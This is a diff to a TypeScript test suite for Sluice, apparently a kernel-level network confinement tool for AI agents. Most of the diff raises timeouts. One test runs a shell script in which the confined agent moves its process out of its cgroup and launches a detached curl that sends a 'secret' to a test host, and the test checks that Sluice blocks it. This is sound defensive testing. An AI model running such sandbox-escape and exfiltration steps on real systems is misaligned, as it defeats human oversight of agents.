@@ -3,9 +3,11 @@
  * uninstalled. And the same acts by an agent, so that it is seen that these are what Sluice stops.
  */
 import { existsSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
 import t, { type Test } from 'tap';
-import { type Finished, run } from '#test/support/command.ts';
+import { type Finished, run, until } from '#test/support/command.ts';
 import { FAR, NEAR } from '#test/support/network.ts';
+import { loadedPrograms } from '#test/support/planes.ts';
 import { POSTGRES } from '#test/support/postgres.ts';
 import { PYTHON, tcpClient, tlsClient, udpClient } from '#test/support/python.ts';
 import { RAW_PORTS, RAW_TLS_NAME, UDP_PORTS } from '#test/support/raw-ports.ts';
@@ -75,21 +77,21 @@ const acts: Readonly<Record<string, Act>> = {
   },
   'connected UDP': {
     argv: python(
-      `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("${FAR.ipv4}", ${UDP_PORTS.echo})); s.send(b"ding"); print(s.recv(9))`,
+      `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60); s.connect(("${FAR.ipv4}", ${UDP_PORTS.echo})); s.send(b"ding"); print(s.recv(9))`,
     ),
     bystander: /ding/,
     agent: /PermissionError/,
   },
   'a raw socket': {
     argv: python(
-      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(5)\ns.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("${FAR.ipv4}", 0)); print("answer", len(s.recv(99)))`,
+      `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(60)\ns.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("${FAR.ipv4}", 0)); print("answer", len(s.recv(99)))`,
     ),
     bystander: /answer/,
     agent: /PermissionError/,
   },
   SO_BINDTODEVICE: {
     argv: python(
-      `s = socket.socket(); s.settimeout(5); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"${NEAR.device}")\ns.connect(("${FAR.ipv4}", ${RAW_PORTS.plain})); s.sendall(b"x"); print(s.recv(99))`,
+      `s = socket.socket(); s.settimeout(60); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"${NEAR.device}")\ns.connect(("${FAR.ipv4}", ${RAW_PORTS.plain})); s.sendall(b"x"); print(s.recv(99))`,
     ),
     bystander: /plain text/,
     agent: /PermissionError/,
@@ -110,7 +112,7 @@ const acts: Readonly<Record<string, Act>> = {
   DNS: { argv: ['getent', 'ahostsv4', 'shop.test'], names: 'dns', bystander: /^10\.198\.1\.2 / },
   'a server of its own on loopback': {
     argv: python(
-      `a = socket.socket(); a.settimeout(3); a.bind(("127.0.0.1", 0)); a.listen(); b = socket.socket(); b.settimeout(5); b.connect(a.getsockname()); c, _ = a.accept(); c.sendall(b"local"); print(b.recv(9))`,
+      `a = socket.socket(); a.settimeout(60); a.bind(("127.0.0.1", 0)); a.listen(); b = socket.socket(); b.settimeout(60); b.connect(a.getsockname()); c, _ = a.accept(); c.sendall(b"local"); print(b.recv(9))`,
     ),
     bystander: /local/,
     agent: /Error/,
@@ -122,7 +124,7 @@ const acts: Readonly<Record<string, Act>> = {
 };
 
 const asBystander = ({ argv, env = {}, names = 'hosts' }: Act): Promise<Finished> =>
-  world.runBystander(argv, { env, names, timeoutMs: 30_000 });
+  world.runBystander(argv, { env, names, timeoutMs: 120_000 });
 
 async function allWork(t: Test, when: string): Promise<void> {
   for (const [name, act] of Object.entries(acts)) {
@@ -153,7 +155,7 @@ t.test('with Sluice', async (t) => {
       const done = await sluice.run(AGENTS.shop, act.argv, {
         env: act.env ?? {},
         names: act.names ?? 'hosts',
-        timeoutMs: 30_000,
+        timeoutMs: 120_000,
       });
       t.match(done.stdout, act.agent ?? act.bystander, `${name}: ${done.stdout}${done.stderr}`);
     }
@@ -178,11 +180,14 @@ t.test('with Sluice', async (t) => {
     });
   });
 
-  await t.test('a child of an agent, and one that left its cgroup, are agents still', async () => {
+  await t.test('a child of an agent, and one that left its cgroup, are agents still', async (t) => {
     const capture = await world.capture();
+    const done = join(world.dir, 'escape-tried');
     const script = `for f in $(grep ' cgroup2 ' /proc/mounts | cut -d' ' -f2); do echo $$ >$f/cgroup.procs; done
-(setsid curl -sS http://plain.test:8080/secret/ESCAPED 2>&1 </dev/null &) ; sleep 2`;
-    await sluice.run(AGENTS.shop, ['sh', '-c', script]);
+(setsid sh -c 'curl -sS http://plain.test:8080/secret/ESCAPED 2>&1; touch "$0"' "$0" </dev/null &)
+until [ -e "$0" ]; do sleep 0.1; done`;
+    await sluice.run(AGENTS.shop, ['sh', '-c', script, done]);
+    t.ok(existsSync(done), 'it has tried');
     await capture.assertNoPlaintext(['ESCAPED']);
   });
 
@@ -194,8 +199,8 @@ t.test('with Sluice', async (t) => {
   await t.test('uninstalled: all of it works, and nothing is left', async (t) => {
     await allWork(t, 'after uninstall');
     t.notOk(existsSync('/sys/fs/bpf/sluice'));
-    const { stdout } = await run(['bpftool', 'prog', 'list']);
-    t.notMatch(stdout, /name sluice_/, 'no program is loaded');
+    // The kernel frees them some time after their last pin has gone.
+    await until('no program to be loaded', async () => (await loadedPrograms()).length === 0);
     const mounts = (await run(['findmnt', '-t', 'cgroup2', '-n', '-o', 'TARGET'])).stdout.trim().split('\n');
     for (const mount of mounts)
       t.notOk(readdirSync(mount).includes('sluice'), `no cgroup is left in ${mount}`);
